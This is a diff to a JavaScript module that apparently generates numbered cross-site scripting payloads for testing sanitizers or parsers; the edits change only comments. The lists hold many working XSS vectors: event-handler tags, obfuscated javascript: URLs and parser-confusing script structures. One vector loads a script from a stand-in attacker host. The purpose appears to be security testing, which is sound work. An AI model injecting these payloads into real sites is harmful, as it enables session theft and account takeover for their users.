@@ -1,5 +1,5 @@
-// Payloads: texts that run a script if a page passes them on as markup, as a URL or as code. Each calls `zq` with its
-// number. All vectors that are written out here are in every run; random combinations of them fill up the rest.
+// Payloads: strings that run a script if a page passes them on as markup, as a URL or as code. Each calls `zq` with its
+// number. Every run contains all vectors that are written out here; random combinations of them fill the rest.
 
 /** Random numbers below 1 from a seed (mulberry32). */
 export function random(seed) {
@@ -14,7 +14,7 @@ export function random(seed) {
   return { next, below, pick: list => list[below(list.length)] };
 }
 
-/** Stands for the call in a vector. */
+/** Placeholder for the call in a vector. */
 const RUN = '\u0001';
 
 /** Ways to call the function that records an execution. */
@@ -33,10 +33,10 @@ const CALLS = [
   n => `document.title='pwned-${n}'`,
 ];
 
-/** The number of the payload that a text contains. */
+/** Matches the number of the payload in a text. */
 export const NUMBERED = /(?:zq|z\\+u0071|z'\+'q'\]|alert|pwned-|\[)(?:\(|`|&#(?:40|x28|96);|&lpar;|%28|\\+u0028)*(\d{1,6})(?=\)|`|\]|'|&#|&rpar;|%29|\\+u0029)/;
 
-/** Elements with an attribute that makes an event fire, and the event. */
+/** Elements with an attribute that triggers an event, and the event. */
 const HANDLERS = [
   'img src=x:x|onerror', 'img src=/favicon.ico|onerror', 'img srcset=x:x|onerror', 'image src=x:x|onerror', 'svg|onload', 'svg|onbegin', 'body|onload',
   'body|onpageshow', 'body|onhashchange', 'html|onclick', 'details open|ontoggle', 'video src=x:x|onerror', 'video|onloadstart',
@@ -60,7 +60,7 @@ const HANDLERS = [
   'p|oncopy', 'p|oncut', 'p|onpaste', 'p|oncontextmenu', 'p|ontouchstart', 'p|onkeydown', 'p|ongotpointercapture', 'p|onselectstart', 'p|oncontentvisibilityautostatechange',
 ];
 
-/** Ways to write an attribute with a script. `E` stands for the element, `N` for the name of the event. */
+/** Ways to write an attribute with a script. `E` is the element, `N` the name of the event. */
 const WRITTEN = [
   `<E N=${RUN}>`, `<E N="${RUN}">`, `<E N='${RUN}'>x`, `<E N = ${RUN} >x`, `<E\nN=${RUN}>`, `<E\tN=${RUN}>`, `<E\fN=${RUN}>`, `<E/N=${RUN}>`, `<E//N="${RUN}"//>`,
   `<E a=">" N=${RUN}>`, `<E a='>' N=${RUN}>`, `<E "a N=${RUN}>`, `<E a==" N=${RUN}>`, `<E =a N=${RUN}>`, `<E N=${RUN}`, `<E N="${RUN}`, `<E N=${RUN} x="`, `<E title="a" title=" N=${RUN} ">`,
@@ -70,7 +70,7 @@ const WRITTEN = [
   `%3CE N=${RUN}%3E`, `＜E N=${RUN}＞`, `‹E N=${RUN}›`, `ʺ><E N=${RUN}>`, `\u{e0001}<E N=${RUN}>`, `<E\u00adN=${RUN}>`, `<E x\u202eN=${RUN}>`, `<ſcript><E N=${RUN}>`, `\ud83d\ude00"><E N=${RUN}>`,
 ];
 
-/** Spellings of URLs that run a script. */
+/** Variants of URLs that run a script. */
 const URLS = [
   `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\tjavascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `javascript\n:${RUN}`, `java&#9;script:${RUN}`, `java&#10;script:${RUN}`, `java&#13;script:${RUN}`, `java&Tab;script&colon;${RUN}`,
   `java&NewLine;script:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`, `&#0000106avascript:${RUN}`, `&#x6Aavascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript&#x3a ${RUN}`, `&#1;javascript:${RUN}`,
@@ -93,7 +93,7 @@ const PLACES = [
   '<a href="https://ok.example" onclick="location=\'%\'">x</a>', 'url(%)', '@import "%"', '%',
 ];
 
-/** Elements that run or load by themselves, that change how the parser goes on, or that differ between parsers. */
+/** Elements that run or load by themselves, that change the parser's state, or that parsers handle differently. */
 const STRUCTURES = [
   `<script>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script type=module>${RUN}</script>`, `<script type=text/jscript>${RUN}</script>`, `<script>${RUN}`, `<script>${RUN}<!--`, `<script>/*<!--<script>*/${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\u0000>${RUN}</script>`,
   `<script src="data:text/javascript,${RUN}"></script>`, `<script src=//evil.example/${RUN}></script>`, `<script type=importmap>{"imports":{"/assets/x.js":"data:text/javascript,${RUN}"}}</script>`, `<script type=speculationrules>{"prerender":[{"urls":["/${RUN}"]}]}</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script>&#122;q&#40;0&#41;;${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><script xlink:href=data:,${RUN} />`,
